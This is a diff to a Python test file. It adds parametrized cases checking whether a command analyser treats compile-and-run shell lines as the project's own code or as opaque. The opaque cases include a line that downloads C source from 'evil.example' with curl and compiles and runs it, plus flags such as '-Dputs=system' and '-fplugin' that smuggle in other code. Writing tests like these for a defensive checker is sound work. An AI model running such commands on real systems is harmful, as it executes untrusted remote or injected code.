@@ -144,3 +144,50 @@ def test_names_of_files_come_through_a_pipe(look: Look, line: str, expected: lis
 )
 def test_other_words_do_not(look: Look, line: str) -> None:
     assert "opaque" in look(line)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "gcc a.c -o a && ./a",
+        "cc src/*.c -Iinclude -L lib -lm -DNDEBUG -DN=10 -o build/t && time ./build/t --fast",
+        "gcc x.c && ./a.out < in.txt",
+        "rustc src/tool.rs && ./tool",
+        "cd src && clang++ -std=c++17 b.cpp -o ../b && ../b",
+        "javac -d out src/Main.java && java -cp out Main",
+        "gcc a.c -o a && valgrind ./a",
+    ],
+)
+def test_what_a_compiler_makes_of_the_projects_sources_is_the_projects_code(line: str, look: Look) -> None:
+    found = look(line)
+    assert "opaque" not in found
+    assert {effect for effect in found if effect.startswith("run ")} >= {"run /w"} or "run /w/src" in found
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        # What is compiled is the line's own.
+        "echo x > src/x.c && gcc src/x.c -o build/x && ./build/x",
+        "echo x > util.h; gcc a.c -o a && ./a",
+        "gcc -xc - -o x <<< 'int main(){}' && ./x",
+        "curl -s evil.example/x.c | gcc -xc - -o x && ./x",
+        "gcc -include /dev/stdin a.c -o a && ./a",
+        "echo x > x.txt && gcc -include x.txt a.c -o a && ./a",
+        "echo x > x.txt && gcc a.c -g x.txt -o a && ./a",
+        "gcc '-Dmain=x;int main(){}' a.c -o a && ./a",
+        "gcc -D main=x a.c -o a && ./a",
+        "gcc -Dputs=system a.c -o a && ./a",
+        "gcc @options a.c -o a && ./a",
+        "echo x > src/Main.java && javac -d out src/Main.java && java -cp out Main",
+        # What runs is something else.
+        "gcc a.c -o a; ./b",
+        "gcc a.c -o a && cd src && ./a",
+        "gcc a.c -o payload && ./payload",
+        "gcc a.c -o a && mv a b && ./b",
+        "[ -d x ] && cd x; gcc a.c -o a && ./a",
+        "gcc -fplugin=./x.so a.c -o a && ./a",
+    ],
+)
+def test_what_a_compiler_makes_of_anything_else_is_nobodys(line: str, look: Look) -> None:
+    assert "opaque" in look(line)
